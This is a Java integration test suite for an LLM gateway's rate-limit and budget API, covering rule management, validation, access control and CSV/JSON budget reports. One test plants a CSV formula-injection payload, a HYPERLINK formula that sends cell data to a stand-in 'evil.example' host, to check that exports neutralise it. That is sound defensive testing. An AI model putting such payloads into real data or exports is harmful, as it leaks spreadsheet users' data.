package dev.tollgate.admission;

import com.fasterxml.jackson.databind.node.ObjectNode;
import dev.tollgate.metering.Usage;
import dev.tollgate.metering.UsageRecord;
import dev.tollgate.metering.UsageSource;
import dev.tollgate.routing.DeploymentType;
import dev.tollgate.support.Requests;
import dev.tollgate.support.TestTokens;
import io.quarkus.test.junit.QuarkusTest;
import io.restassured.http.ContentType;
import io.restassured.specification.RequestSpecification;
import jakarta.inject.Inject;
import org.junit.jupiter.api.Test;

import java.time.Duration;
import java.time.Instant;
import java.util.UUID;

import static io.restassured.RestAssured.given;
import static org.assertj.core.api.Assertions.assertThat;
import static org.awaitility.Awaitility.await;
import static org.hamcrest.Matchers.containsString;
import static org.hamcrest.Matchers.equalTo;
import static org.hamcrest.Matchers.hasItem;
import static org.hamcrest.Matchers.startsWith;

/**
 * /api/limits and /api/budgets through real HTTP with real tokens over the test PostgreSQL, and the running
 * application's admission following the rules as they change. Each test uses rule ids and apps of its own.
 */
@QuarkusTest
class LimitsApiTest {

    private static final String ADMIN = TestTokens.withRoles("limits-admin", TestTokens.ADMIN_ROLE);
    private static final String READER = TestTokens.withRoles("budget-reader", TestTokens.READER_ROLE);

    @Inject
    Admission admission;

    private static RequestSpecification admin() {
        return given().auth().oauth2(ADMIN).contentType(ContentType.JSON);
    }

    private static String unique(String prefix) {
        return prefix + "-" + UUID.randomUUID().toString().substring(0, 8);
    }

    @Test
    void aRuleIsCreatedReadReplacedPatchedAndDeleted() {
        String id = unique("crud");
        String app = unique("app");
        String body = "{\"subject\":{\"type\":\"app\",\"id\":\"" + app + "\"},\"tokensPerMinute\":50000,"
                + "\"budget\":{\"month\":\"2000.00\"},\"description\":\"gpt-4o team\"}";
        admin().body(body).put("/api/limits/" + id).then().statusCode(201)
                .header("Location", containsString("/api/limits/" + id))
                .body("id", equalTo(id)).body("subject.type", equalTo("app")).body("subject.id", equalTo(app))
                .body("tokensPerMinute", equalTo(50000)).body("budget.month", equalTo("2000.00"))
                .body("enforcement", equalTo("hard")).body("alertThresholds", equalTo(java.util.List.of(50, 80, 100)));
        admin().body(body).put("/api/limits/" + id).then().statusCode(200);
        given().auth().oauth2(ADMIN).get("/api/limits/" + id).then().statusCode(200)
                .body("description", equalTo("gpt-4o team")).body("createdAt", startsWith("20"));
        given().auth().oauth2(ADMIN).get("/api/limits").then().statusCode(200).body("id", hasItem(id));

        admin().contentType("application/merge-patch+json")
                .body("{\"tokensPerMinute\":null,\"requestsPerMinute\":60,\"budget\":{\"day\":\"100\"}}")
                .patch("/api/limits/" + id).then().statusCode(200)
                .body("tokensPerMinute", org.hamcrest.Matchers.nullValue()).body("requestsPerMinute", equalTo(60))
                .body("budget.month", equalTo("2000.00")).body("budget.day", equalTo("100"));

        given().auth().oauth2(ADMIN).delete("/api/limits/" + id).then().statusCode(204);
        given().auth().oauth2(ADMIN).get("/api/limits/" + id).then().statusCode(404)
                .body("error.code", equalTo("404"));
        given().auth().oauth2(ADMIN).delete("/api/limits/" + id).then().statusCode(404);
    }

    @Test
    void malformedAndContradictoryRulesAreRefusedWith400SayingWhy() {
        String path = "/api/limits/" + unique("bad");
        String subject = "\"subject\":{\"type\":\"app\",\"id\":\"x\"}";
        bad(path, "{not json", "not valid JSON");
        bad(path, "[]", "must be a JSON object");
        bad(path, "{" + subject + ",\"tokensPerMinut\":5}", "Unknown field 'tokensPerMinut'");
        bad(path, "{" + subject + ",\"tokensPerMinute\":\"5\"}", "tokensPerMinute must be a whole number");
        bad(path, "{" + subject + ",\"tokensPerMinute\":0}", "at least 1");
        bad(path, "{" + subject + ",\"tokensPerMinute\":1.5}", "whole number");
        bad(path, "{\"subject\":{\"type\":\"team\",\"id\":\"x\"},\"tokensPerMinute\":5}", "subject.type 'team'");
        bad(path, "{\"subject\":{\"type\":\"default\",\"id\":\"x\"},\"tokensPerMinute\":5}", "left out");
        bad(path, "{\"subject\":{\"type\":\"app\"},\"tokensPerMinute\":5}", "subject.id is required");
        bad(path, "{\"tokensPerMinute\":5}", "subject is required");
        bad(path, "{" + subject + "}", "limits nothing");
        bad(path, "{" + subject + ",\"deployment\":\"a\",\"modelFamily\":\"gpt-4o\",\"tokensPerMinute\":5}",
                "not both");
        bad(path, "{" + subject + ",\"tokenQuota\":{\"hour\":2000,\"day\":1000}}", "could never bind");
        bad(path, "{" + subject + ",\"budget\":{\"day\":\"200\",\"month\":\"100\"}}", "could never bind");
        bad(path, "{" + subject + ",\"budget\":{\"month\":\"-1\"}}", "more than 0");
        bad(path, "{" + subject + ",\"budget\":{\"month\":\"lots\"}}", "an amount");
        bad(path, "{" + subject + ",\"tokensPerMinute\":5,\"enforcement\":\"soft\"}", "neither");
        bad(path, "{" + subject + ",\"budget\":{\"month\":\"1\"},\"alertThresholds\":[80,50]}", "ascending");
        bad(path, "{" + subject + ",\"deployment\":\"gpt-4o\",\"allowedDeployments\":[\"gpt-4o\"]}",
                "cannot also restrict access");
        bad(path, "{" + subject + ",\"tokensPerMinute\":5,\"tokensPerMinute\":6}", "Duplicate field");
        bad(path, "{\"id\":\"other\"," + subject + ",\"tokensPerMinute\":5}", "not the rule id of the path");
        bad("/api/limits/bad!id", "{" + subject + ",\"tokensPerMinute\":5}", "Rule id 'bad!id' is invalid");
    }

    private static void bad(String path, String body, String message) {
        admin().body(body).put(path).then().statusCode(400)
                .body("error.code", equalTo("BadRequest")).body("error.message", containsString(message));
    }

    @Test
    void aSecondRuleForTheSameSubjectAndScopeIsAConflict() {
        String app = unique("app");
        String body = "{\"subject\":{\"type\":\"app\",\"id\":\"" + app + "\"},\"modelFamily\":\"gpt-4o\","
                + "\"tokensPerMinute\":5}";
        admin().body(body).put("/api/limits/" + unique("first")).then().statusCode(201);
        admin().body(body).put("/api/limits/" + unique("second")).then().statusCode(409)
                .body("error.code", equalTo("Conflict")).body("error.message", containsString(app));
    }

    @Test
    void onlyAdminsMayReadOrChangeRules() {
        given().get("/api/limits").then().statusCode(401).body("error.code", equalTo("401"));
        given().auth().oauth2(READER).get("/api/limits").then().statusCode(403).body("error.code", equalTo("403"));
        given().auth().oauth2(READER).contentType(ContentType.JSON).body("{}").put("/api/limits/x").then()
                .statusCode(403);
        given().auth().oauth2(ADMIN).get("/api/budgets").then().statusCode(403);
    }

    @Test
    void aLimitChangeAppliesWithoutARestart() {
        String id = unique("live");
        String app = unique("app");
        admin().body("{\"subject\":{\"type\":\"app\",\"id\":\"" + app + "\"},\"requestsPerMinute\":1}")
                .put("/api/limits/" + id).then().statusCode(201);
        await().atMost(Duration.ofSeconds(10)).until(() -> admission.engine().admit(chat(app)) instanceof Refused);
        Refused refused = (Refused) admission.engine().admit(chat(app));
        assertThat(refused.status()).isEqualTo(429);
        assertThat(refused.ruleId()).isEqualTo(id);

        admin().contentType("application/merge-patch+json").body("{\"requestsPerMinute\":1000}")
                .patch("/api/limits/" + id).then().statusCode(200);
        await().atMost(Duration.ofSeconds(10)).until(() -> admission.engine().admit(chat(app)) instanceof Admitted);

        given().auth().oauth2(ADMIN).delete("/api/limits/" + id).then().statusCode(204);
    }

    @Test
    void budgetsShowSpentRemainingAndShareClusterWide() {
        String id = unique("budget");
        String app = unique("app");
        admin().body("{\"subject\":{\"type\":\"app\",\"id\":\"" + app + "\"},\"tokenQuota\":{\"day\":100000},"
                + "\"budget\":{\"month\":\"10\"},\"enforcement\":\"soft\",\"requestsPerMinute\":1000}").put("/api/limits/" + id).then()
                .statusCode(201);
        // Once the rule is in force (its ticket counts requests), one request settles at its real usage.
        await().atMost(Duration.ofSeconds(10)).until(() -> admission.engine().admit(chat(app)) instanceof Admitted admitted
                && admitted.ticket().remainingRequests().isPresent() && settle(admitted, app));
        // 1,000 input + 1,000 output tokens of gpt-4o-2024-08-06 (global): the sample catalog's price.
        await().atMost(Duration.ofSeconds(10)).untilAsserted(() -> given().auth().oauth2(READER)
                .get("/api/budgets").then().statusCode(200)
                .body("find { it.ruleId == '" + id + "' && it.measure == 'tokens' }.spent", equalTo(2000))
                .body("find { it.ruleId == '" + id + "' && it.measure == 'tokens' }.remaining", equalTo(98000))
                .body("find { it.ruleId == '" + id + "' && it.measure == 'tokens' }.period", equalTo("day"))
                .body("find { it.ruleId == '" + id + "' && it.measure == 'cost' }.limit", equalTo(10))
                .body("find { it.ruleId == '" + id + "' && it.measure == 'cost' }.subject", equalTo(app)));
        String csv = given().auth().oauth2(READER).queryParam("format", "csv").get("/api/budgets").then()
                .statusCode(200).contentType(containsString("text/csv")).extract().asString();
        assertThat(csv).startsWith("ruleId,subjectType,subject,period,periodStart,periodEnd,measure,enforcement,"
                + "limit,spent,inFlight,remaining,shareUsed,forecast").contains(id + ",app," + app + ",day,");
        given().auth().oauth2(READER).queryParam("format", "xml").get("/api/budgets").then().statusCode(400)
                .body("error.code", equalTo("BadRequest"));
        given().auth().oauth2(ADMIN).delete("/api/limits/" + id).then().statusCode(204);
    }

    @Test
    void aSubjectThatLooksLikeAFormulaIsTextInTheBudgetsCsv() {
        String id = unique("hostile");
        String unit = "=HYPERLINK(\"https://evil.example/\"&A1,\"x\") " + id;
        admin().body("{\"subject\":{\"type\":\"businessUnit\",\"id\":" + quoted(unit) + "},"
                + "\"budget\":{\"month\":\"5\"}}").put("/api/limits/" + id).then().statusCode(201);
        String csv = given().auth().oauth2(READER).accept("text/csv").get("/api/budgets").then().statusCode(200)
                .extract().asString();
        String line = csv.lines().filter(l -> l.startsWith(id + ",")).findFirst().orElseThrow();
        assertThat(line).contains(",\"'=HYPERLINK(").doesNotContain(",=HYPERLINK").doesNotContain(",\"=HYPERLINK");
        given().auth().oauth2(READER).get("/api/budgets").then().statusCode(200)
                .body("find { it.ruleId == '" + id + "' }.subject", equalTo(unit));
        given().auth().oauth2(ADMIN).delete("/api/limits/" + id).then().statusCode(204);
    }

    private static String quoted(String text) {
        return "\"" + text.replace("\\", "\\\\").replace("\"", "\\\"") + "\"";
    }

    private static boolean settle(Admitted admitted, String app) {
        admitted.ticket().settle(new UsageRecord(UUID.randomUUID(), Instant.now(), app, "t", "gpt-4o",
                "gpt-4o-2024-08-06", "sim-1", null, DeploymentType.GLOBAL, "chat/completions", false, 200, 5, 1,
                new Usage(1000, 0, 1000, 0, 2000, UsageSource.REPORTED), null, null));
        return true;
    }

    private static Demand chat(String app) {
        ObjectNode body = EngineFixture.MAPPER.createObjectNode();
        body.putArray("messages").addObject().put("role", "user").put("content", "Hello");
        body.put("max_tokens", 10);
        return new Demand(app, Requests.read("gpt-4o", "chat/completions", body));
    }
}
